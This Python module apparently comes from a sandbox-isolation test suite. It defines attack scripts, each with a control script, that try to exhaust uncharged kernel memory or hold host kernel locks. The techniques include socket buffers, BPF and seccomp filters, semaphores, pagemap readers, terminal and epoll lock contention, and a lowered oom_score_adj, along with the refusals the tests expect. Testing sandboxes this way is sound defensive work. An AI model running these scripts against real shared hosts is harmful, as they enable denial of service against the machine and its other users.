"""Attacks that evade the OOM killer, or use kernel memory that is not charged to the sandbox.

Some attacks need system calls that take a long time. A program can delay the calls of other programs in the sandbox by
keeping a processor busy.
"""

from doubles.sandbox_scripts import CLOSE_CONNECTION_IN_TRANSIT_SCRIPT
from escape.attack import OWN_KERNEL, Attack
from escape.host_watch import COMPILED_FILTERS_BYTES, REPORTED_LOCK_WAIT_SECONDS, SEMAPHORES, SOCKET_BUFFERS_BYTES

PRELUDE = f"""
import ctypes, errno, mmap, os, pathlib, resource, socket, struct, threading, time
BUFFER_BYTES = {SOCKET_BUFFERS_BYTES}
FILTER_BYTES = {COMPILED_FILTERS_BYTES}
SEMAPHORES = {SEMAPHORES}
libc = ctypes.CDLL(None, use_errno=True)

def checked(result):
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def listener():
    server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(512); return server

def instruction(code, value): return struct.pack("HBBI", code, 0, 0, value)

def program(code):
    keep_alive.append(ctypes.create_string_buffer(code, len(code)))
    return struct.pack("HxxxxxxP", len(code) // 8, ctypes.addressof(keep_alive[-1]))

keep_alive = []
"""


def kernel_memory_attacks():
    """Yield all attacks on kernel memory."""
    yield from _buffers()
    yield from _filters()
    yield from _other_pools()


def _buffers():
    transfer = """
with setup(): server = listener()
client = socket.create_connection(server.getsockname()); served, _ = server.accept()
sending = threading.Thread(target=client.sendall, args=(bytes(8 << 20),)); sending.start()
received = 0
while received < 8 << 20: received += len(served.recv(1 << 20))
succeeded()"""
    yield Attack("unread TCP buffers", """
with setup(): server = listener()
sent = 0
for _ in range(150):
    client = socket.create_connection(server.getsockname()); keep_alive += [client, server.accept()[0]]
    client.setblocking(False)
    try:
        while sent < BUFFER_BYTES: sent += client.send(bytes(65536))
    except BlockingIOError: pass
print(sent >> 20, "MiB")
if sent < BUFFER_BYTES: refused("held back")
else: succeeded()""", transfer, ("held back",), unchanged_observers=("socket buffers",))  # fmt: skip
    yield Attack("buffers of unaccepted TCP connections", """
with setup():
    server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    server.bind(("127.0.0.1", 0)); server.listen(512)
sent = 0
for _ in range(150):
    client = socket.socket(); client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    client.connect(server.getsockname()); client.setblocking(False); keep_alive.append(client)
    try:
        while sent < BUFFER_BYTES: sent += client.send(bytes(65536))
    except BlockingIOError: pass
print(sent >> 20, "MiB")
if sent < BUFFER_BYTES: refused("held back")
else: succeeded()""", transfer, ("held back",), unchanged_observers=("socket buffers",))  # fmt: skip
    yield Attack("unread UDP buffers", """
with setup(): sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(2500):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.bind(("127.0.0.1", 0)); one.setblocking(False)
    keep_alive.append(one)
    try:
        for _ in range(4): sender.sendto(bytes(60000), one.getsockname())
    except OSError: pass
held = 0
for one in keep_alive:
    try:
        while True: held += len(one.recv(65536))
    except BlockingIOError: pass
print(held >> 20, "MiB")
if held < BUFFER_BYTES: refused("held back")
else: succeeded()""", """
one, other = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
one.bind(("127.0.0.1", 0)); other.sendto(b"word", one.getsockname())
if one.recv(100) == b"word": succeeded()""", ("held back",), unchanged_observers=("socket buffers",))  # fmt: skip


def _filters():
    ordinary = "one = socket.socket(); one.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1); succeeded()"
    for name, option in (
        ("BPF filters on thousands of sockets", 26),
        ("reuseport filters on thousands of sockets", 51),
    ):
        yield Attack(name, f"""
for _ in range(FILTER_BYTES // 8192):
    with setup():
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); keep_alive.append(one)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); one.bind(("127.0.0.1", 0))
    one.setsockopt(socket.SOL_SOCKET, {option}, program(instruction(6, 1)))
succeeded()""", ordinary, ("ENOPROTOOPT",), allowed_inside=("gvisor",), unchanged_observers=("compiled filters",))  # fmt: skip
    yield Attack("large seccomp filters in many processes", """
code = instruction(0x20, 0) + instruction(0x45, 0x12345678) * 4094 + instruction(0x06, 0x7FFF0000)
reader, writer = os.pipe()
children = []
for _ in range(FILTER_BYTES // (7 * 4096 * 15) + 10):
    children.append(os.fork())
    if children[-1] == 0:
        libc.prctl(38, 1, 0, 0, 0)
        answer = b"y" if all(libc.prctl(22, 2, program(code), 0, 0) == 0 for _ in range(6)) else b"n"
        os.write(writer, answer)
        time.sleep(600) if answer == b"y" else os._exit(0)
answers = b"".join(os.read(reader, 1) for _ in children)
for child in children:
    try: os.kill(child, 9)
    except ProcessLookupError: pass
    os.waitpid(child, 0)
if b"n" not in answers: succeeded()
libc.prctl(38, 1, 0, 0, 0)
if libc.prctl(22, 2, program(code), 0, 0): refused(errno.errorcode[ctypes.get_errno()])""", """
checked(libc.prctl(38, 1, 0, 0, 0)); succeeded()""", ("EINVAL",), allowed_inside=OWN_KERNEL, unchanged_observers=("compiled filters",))  # fmt: skip


def _other_pools():
    yield Attack("huge pages (memfd)", """
file = os.memfd_create("huge", 4)
os.ftruncate(file, 2 << 20); mmap.mmap(file, 2 << 20).write(b"x"); succeeded()""", """
file = os.memfd_create("ordinary"); os.ftruncate(file, 2 << 20)
mmap.mmap(file, 2 << 20).write(b"x"); succeeded()""", ("EINVAL",))  # fmt: skip
    yield Attack("more System V semaphores than the limit", """
libc.semctl.restype = libc.semget.restype = ctypes.c_int
arrays = []
try:
    while len(arrays) * 32000 < SEMAPHORES: arrays.append(checked(libc.semget(0, 32000, 0o1600)))
    time.sleep(2)
    succeeded()
finally:
    for array in arrays: libc.semctl(array, 0, 0)  # IPC_RMID""", """
array = checked(libc.semget(0, 10, 0o1600))
checked(libc.semctl(array, 0, 16, 7))  # SETVAL
value = libc.semctl(array, 0, 12); libc.semctl(array, 0, 0)
if value == 7: succeeded()""", ("ENOSPC",), allowed_inside=OWN_KERNEL, unchanged_observers=("semaphores",))  # fmt: skip
    yield Attack("watches on device files that the host uses", """
with setup(): instance = checked(libc.inotify_init1(os.O_NONBLOCK))
checked(libc.inotify_add_watch(instance, b"/dev/full", 0xFFF))
time.sleep(8)  # meanwhile, the host reads its own file several times
try: os.read(instance, 65536)
except BlockingIOError: refused("no event")
else: succeeded()""", """
with setup(): instance = checked(libc.inotify_init1(os.O_NONBLOCK))
checked(libc.inotify_add_watch(instance, b"/dev/full", 0xFFF))
open("/dev/full", "rb", 0).read(1)
if os.read(instance, 65536): succeeded()""", ("no event",))  # fmt: skip
    yield Attack("a lower oom_score_adj", """
with setup(): score = pathlib.Path("/proc/self/oom_score_adj"); before = int(score.read_text())
score.write_text("-500" if before < 1 else "0")
if int(score.read_text()) < before: succeeded()""", """
if pathlib.Path("/proc/self/oom_score_adj").read_text().strip(): succeeded()""", ("EROFS", "EACCES", "EPERM"), allowed_inside=("gvisor",), unchanged_observers=("scores",))  # fmt: skip
    yield Attack("a socket pair of another family", """
number, answers = {"x86_64": 53, "aarch64": 199}[os.uname().machine], set()
for family, kind, protocol in ((40, 1, 0), (17, 3, 0), (44, 3, 0), (38, 5, 0), (2, 10, 0), (2, 5, 132)):
    if libc.syscall(number, family, kind, protocol, ctypes.create_string_buffer(8)) == 0: succeeded()
    answers.add(f"{'inet ' if family == 2 else ''}{errno.errorcode[ctypes.get_errno()]}")
refused(*sorted(answers))""", """
one, other = socket.socketpair(); one.send(b"x")
if other.recv(1) == b"x": succeeded()""", ("EAFNOSUPPORT", "ESOCKTNOSUPPORT", "inet EPERM", "inet ESOCKTNOSUPPORT"))  # fmt: skip


_BUSY_PROCESSOR = """
import signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
processor = max(os.sched_getaffinity(0))

def fork_to(run):
    pid = os.fork()
    if pid: return pid
    run(); os._exit(0)

def use_processor():
    os.sched_setaffinity(0, {processor})
    while True: pass
"""

_SLOW_PAGE_REMOVAL = f"""{_BUSY_PROCESSOR}
PAGES_BYTES, PUNCH_HOLE = (400 if HAS_OWN_KERNEL else 560) << 20, 3
pages_file = os.memfd_create("pages")
os.ftruncate(pages_file, 8192)
checked(libc.fallocate(pages_file, PUNCH_HOLE, ctypes.c_long(0), ctypes.c_long(4096)))
for offset in range(0, PAGES_BYTES, 1 << 20): os.pwrite(pages_file, b"x" * (1 << 20), offset)
pages = memoryview(mmap.mmap(pages_file, PAGES_BYTES))
start = os.pipe()
running = mmap.mmap(-1, 4096)  # 1 for each busy program; the last byte starts them

def become_busy(index):
    while not running[-1]: time.sleep(0.1)
    os.sched_setaffinity(0, {{processor}}); running[index] = 1
    while True: pass

def remove_pages():
    # A thread that accesses the file in the meantime waits.
    for index in range(280): fork_to(lambda: become_busy(index))
    os.read(start[0], 1); running[-1] = 1
    while sum(running[:280]) < 280: time.sleep(0.01)
    os.sched_setaffinity(0, {{processor}})
    libc.fallocate(pages_file, PUNCH_HOLE, ctypes.c_long(0), ctypes.c_long(PAGES_BYTES))

def start_to_remove_pages():
    os.write(start[1], b"x")
    first, resident = ctypes.addressof(ctypes.c_char.from_buffer(pages)), ctypes.c_ubyte(1)
    while resident.value & 1: libc.mincore(ctypes.c_void_p(first), ctypes.c_size_t(4096), ctypes.byref(resident))

fork_to(remove_pages)
"""


def long_call_attacks():
    """Yield attacks that keep kernel memory in use during long calls. With a shared kernel, the runner ends the sandbox."""
    # The processes end slowly only because they share a processor with the busy ones, while others are opening files on
    # another. Without an effective sched_setaffinity, the number of busy processes slows down both equally.
    yield Attack("files of processes that take long to end", f"""{_BUSY_PROCESSOR}
import re
# More than the open directories of a sandbox can use: 8192 of 20 KiB each.
HELD_BYTES = 256 << 20
# A smaller number is enough for a kernel that the sandbox does not share with the host.
BUSY, DIRECTORIES, PROCESSES = (4, 200, 3) if HAS_OWN_KERNEL else (150, 4000, 60)

def can_select_processor():
    before = os.sched_getaffinity(0)
    os.sched_setaffinity(0, {{processor}})
    after = os.sched_getaffinity(0)
    os.sched_setaffinity(0, before - {{processor}} or before)
    return after != before

def kernel_bytes():
    found = re.search(r"SUnreclaim: +(\\d+)", pathlib.Path("/proc/meminfo").read_text())
    return int(found[1]) << 10 if found else 0

def open_and_end():
    room = ctypes.create_string_buffer(32)
    for _ in range(DIRECTORIES):
        listed = os.open("/tmp/listed", os.O_RDONLY)
        checked(libc.syscall(61 if os.uname().machine == "aarch64" else 217, listed, room, 32))
    os.write(opened[1], b"x")

def is_open(pid):
    try: return len(os.listdir(f"/proc/{{pid}}/fd")) > 0
    except OSError: return False

def hold_files():
    before, held, started = kernel_bytes(), 0, []
    for _ in range(BUSY): fork_to(use_processor)
    for _ in range(PROCESSES):
        pid = fork_to(open_and_end); started.append(pid)
        os.read(opened[0], 1)
        while is_open(pid): time.sleep(0.002)
        try: os.sched_setaffinity(pid, {{processor}})  # while the kernel closes its files
        except ProcessLookupError: pass
        ending = sum(os.path.exists(f"/proc/{{pid}}") for pid in started)
        held = max(held, min(ending * DIRECTORIES * 300 * 64, kernel_bytes() - before))
        if held > HELD_BYTES: break
        time.sleep(0.05)  # the runner must not count the directories of many processes at once
    print(len(started), "processes,", ending, "ending,", held >> 20, "MiB")
    if HAS_OWN_KERNEL or held > HELD_BYTES: succeeded()
    else: refused("closed in time")

with setup():
    os.mkdir("/tmp/listed")
    for number in range(300): open(f"/tmp/listed/{{number}}", "w").close()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = os.pipe()
if can_select_processor() or HAS_OWN_KERNEL: hold_files()
else: refused("no effect")""", """
os.makedirs("/tmp/few/one")
for _ in range(3):
    if os.fork() == 0:
        held = [os.open("/tmp/few", os.O_RDONLY) for _ in range(100)]
        os._exit(0 if os.listdir(held[0]) == ["one"] else 1)
if all(os.wait()[1] == 0 for _ in range(3)): succeeded()""", ("no effect",), allowed_inside=OWN_KERNEL, unchanged_observers=("long calls",))  # fmt: skip
    yield Attack("mappings of ended processes, held by readers of pagemap", f"""
os.close(os.open("/proc/self/pagemap", os.O_RDONLY))
{_SLOW_PAGE_REMOVAL}
PROCESSES, MAPPINGS_PER_PROCESS = (5, 10000) if HAS_OWN_KERNEL else (20, 60000)
MAPPINGS_MAX, ends_at = (160 << 20) // 192, time.monotonic() + 40
returned = mmap.mmap(-1, 4096)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
pids, opened = os.pipe(), os.pipe()

def hold(index, file):
    os.preadv(file, [pages[PAGES_BYTES - (index + 1) * 4096:][:8]], (1 << 40) // 4096 * 8)
    returned[0] = 1

def hold_all():
    threading.stack_size(1 << 16)
    for index in range(PROCESSES):
        pid, = struct.unpack("i", os.read(pids[0], 4))
        file = os.open(f"/proc/{{pid}}/pagemap", os.O_RDONLY)
        threading.Thread(target=hold, args=[index, file], daemon=True).start()
        os.write(opened[1], b"x")
    time.sleep(600)

fork_to(hold_all)
file = os.memfd_create("mapped"); os.ftruncate(file, 4096)
for page in range(MAPPINGS_PER_PROCESS): libc.mmap((1 << 40) + page * 8192, 4096, 1, 0x11, file, 0)  # MAP_SHARED, MAP_FIXED
start_to_remove_pages()
held = 0
for _ in range(PROCESSES):
    if time.monotonic() > ends_at: break
    pid = fork_to(lambda: time.sleep(600))
    os.write(pids[1], struct.pack("i", pid)); os.read(opened[0], 1); time.sleep(0.02)
    os.kill(pid, signal.SIGKILL); held += MAPPINGS_PER_PROCESS
time.sleep(5)
print(held, "mappings")
is_held_back = not HAS_OWN_KERNEL and (returned[0] or held < MAPPINGS_MAX)
refused("held back") if is_held_back else succeeded()""", """
file = os.memfd_create("mapped"); os.ftruncate(file, 4096)
if os.fork() == 0:
    os._exit(0 if [mmap.mmap(file, 4096, prot=mmap.PROT_READ) for _ in range(1000)] else 1)
if os.wait()[1] == 0: succeeded()""", ("out_of_memory", "held back", "ENOENT"), allowed_inside=("qemu",),
        unchanged_observers=("long calls",), host_paths=("/proc/self/pagemap",))  # fmt: skip
    yield Attack("blocks that small TCP packets keep", """
import re
LIMIT, packets = 3 << 30, 0
server = listener(); full = bytes(32767)
drained = socket.create_connection(server.getsockname()), server.accept()[0]

def available_bytes():
    return int(re.search(r"MemAvailable: +(\\d+)", pathlib.Path("/proc/meminfo").read_text())[1]) << 10

def keep_block(client):
    client.send(b"x"); drained[0].sendall(full); left = len(full)
    while left: left -= len(drained[1].recv(left))

ends_at = time.monotonic() + 60
while packets << 15 < LIMIT and time.monotonic() < ends_at and available_bytes() > 200 << 20:
    client = socket.create_connection(server.getsockname()); keep_alive += [client, server.accept()[0]]
    client.setblocking(False); client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    try: client.send(bytes(100_000))
    except BlockingIOError: pass
    try:
        for _ in range(4000): keep_block(client); packets += 1
    except BlockingIOError: pass
print(packets, "packets")
time.sleep(3)
refused("held back") if packets << 15 < LIMIT else succeeded()""", """
server = listener(); client = socket.create_connection(server.getsockname()); served = server.accept()[0]
client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for _ in range(1000): client.send(b"x")
received = 0
while received < 1000: received += len(served.recv(1000))
succeeded()""", ("out_of_memory", "held back"))  # fmt: skip
    yield from _lock_attacks()
    yield Attack("kernel threads that process terminal input", """
import termios
outer, inner = os.openpty(); os.write(outer, b"typed\\n"); os.read(inner, 6)
terminals = [os.openpty() for _ in range(8)]
for outer, _ in terminals:
    os.set_blocking(outer, False); os.write(outer, b"a" * 500)

def try_to(work, *arguments):
    try: work(*arguments)
    except BlockingIOError: pass

REPRINT, ends_at = b"\\x12", time.monotonic() + (3 if HAS_OWN_KERNEL else 40)
while time.monotonic() < ends_at:
    for outer, inner in terminals:
        try_to(os.write, outer, REPRINT * 4096)
        if not HAS_OWN_KERNEL: termios.tcflush(inner, termios.TCOFLUSH)
        try_to(os.read, outer, 65536)
    time.sleep(0.01)
succeeded()""", """
outer, inner = os.openpty()
for number in range(20):
    os.write(outer, b"typed %d\\n" % number)
    if os.read(inner, 100) != b"typed %d\\n" % number: break
else: succeeded()""", ("out_of_memory",), allowed_inside=OWN_KERNEL, unchanged_observers=("terminals",))  # fmt: skip
    yield Attack("the lock for opening terminals, held without CPU time", f"""{_BUSY_PROCESSOR}
os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))

def open_terminals():
    while True:
        try: os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        except OSError: pass

opening, busy, seconds = (4, 10, 3) if HAS_OWN_KERNEL else (40, 400, 20)
started, start = [], os.pipe()
for run in [open_terminals] * opening + [use_processor] * busy:
    started.append(fork_to(lambda: (os.nice(19), os.read(start[0], 1), run())))
os.write(start[1], b"x" * len(started))
time.sleep(seconds)
for pid in started: os.kill(pid, signal.SIGKILL)
if HAS_OWN_KERNEL: succeeded()
else: refused("short")""", """
for _ in range(50):
    for end in os.openpty(): os.close(end)
succeeded()""", ("out_of_memory", "short"), allowed_inside=OWN_KERNEL, unchanged_observers=("terminals", "locks"))  # fmt: skip


def _lock_attacks():
    """Yield attacks that wait for their own memory while the kernel holds a lock that the machine needs.

    gVisor cannot remove pages of a memfd. Without other load, the kernel removes the pages within a second or two, and
    the runner does not end the sandbox: the attack is short.
    """
    yield Attack("locks of all file systems of the machine, held by sync", """
if libc.syncfs(-1) == 0: refused("no effect")
else: os.sync(); succeeded()""", """
with open("/tmp/written", "w") as file: file.write("x"); file.flush(); os.fsync(file); os.sync()
succeeded()""", ("no effect",), allowed_inside=("gvisor",), unchanged_observers=("long calls",))  # fmt: skip
    yield Attack("the lock of the host's netlink socket table", """
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
netlink.setsockopt(270, 1, 1)  # NETLINK_ADD_MEMBERSHIP
netlink.getsockopt(270, 9, 64)  # NETLINK_LIST_MEMBERSHIPS
succeeded()""", """
netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); netlink.bind((0, 0))
if netlink.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE) == socket.SOCK_RAW and socket.if_nameindex(): succeeded()""",
        ("ENOPROTOOPT",), unchanged_observers=("long calls",))  # fmt: skip
    yield Attack("the kernel thread that closes files", f"""{CLOSE_CONNECTION_IN_TRANSIT_SCRIPT}
if HAS_OWN_KERNEL or not poll.poll(5000): succeeded()
refused("closed")""", """
one, other = socket.socketpair(); reading, writing = os.pipe()
socket.send_fds(other, [b"x"], [writing]); os.close(writing)
_, (received,), _, _ = socket.recv_fds(one, 1, 1)
os.write(received, b"x"); os.close(received)
if os.read(reading, 2) == b"x" and os.read(reading, 1) == b"": succeeded()""",
        ("closed",), allowed_inside=OWN_KERNEL, unchanged_observers=("long calls",))  # fmt: skip
    yield Attack("the lock for nested epoll instances", f"""{_SLOW_PAGE_REMOVAL}
import select
inner, outer, event = select.epoll(), select.epoll(), os.eventfd(1)
inner.register(event, select.EPOLLIN)
def nest():
    while True: outer.register(inner.fileno(), select.EPOLLIN); outer.unregister(inner.fileno())
fork_to(nest)
slow = ctypes.addressof(ctypes.c_char.from_buffer(pages)) + 4096
if not HAS_OWN_KERNEL: start_to_remove_pages()
called_at = time.monotonic()
libc.epoll_wait(inner.fileno(), ctypes.c_void_p(slow), 1, 0)
if not HAS_OWN_KERNEL and time.monotonic() - called_at < {REPORTED_LOCK_WAIT_SECONDS}: refused("short")
else: succeeded()""", """
import select
inner, outer, event = select.epoll(), select.epoll(), os.eventfd(1)
inner.register(event, select.EPOLLIN); outer.register(inner.fileno(), select.EPOLLIN)
if len(outer.poll(0)) == 1: succeeded()""",
        ("out_of_memory", "ENOTSUP", "short"), allowed_inside=("qemu",), unchanged_observers=("long calls", "locks"))  # fmt: skip
    for name, call, control in (
        ("the lock for network devices", """
import fcntl
fcntl.ioctl(opened, 0x8912, struct.pack("ixxxxP", 4096, slow))  # SIOCGIFCONF""", """
import fcntl
names = ctypes.create_string_buffer(4096)
fcntl.ioctl(socket.socket(), 0x8912, struct.pack("ixxxxP", 4096, ctypes.addressof(names)))
if names.raw.startswith(b"lo"): succeeded()"""),
        ("the lock of a directory of the host", """
libc.syscall(61 if os.uname().machine == "aarch64" else 217, opened, ctypes.c_void_p(slow), 8192)""", """
if os.listdir("/usr"): succeeded()"""),
    ):  # fmt: skip
        opens = "socket.socket()" if "ioctl" in call else 'os.open("/usr/lib", os.O_RDONLY)'
        yield Attack(name, f"""{_SLOW_PAGE_REMOVAL}
opened = {opens}
slow = ctypes.addressof(ctypes.c_char.from_buffer(pages)) + 4096
if not HAS_OWN_KERNEL: start_to_remove_pages()
called_at = time.monotonic()
{call}
if not HAS_OWN_KERNEL and time.monotonic() - called_at < {REPORTED_LOCK_WAIT_SECONDS}: refused("short")
else: succeeded()""", control, ("out_of_memory", "ENOTSUP", "short"), allowed_inside=("qemu",),
            unchanged_observers=("long calls", "locks"))  # fmt: skip
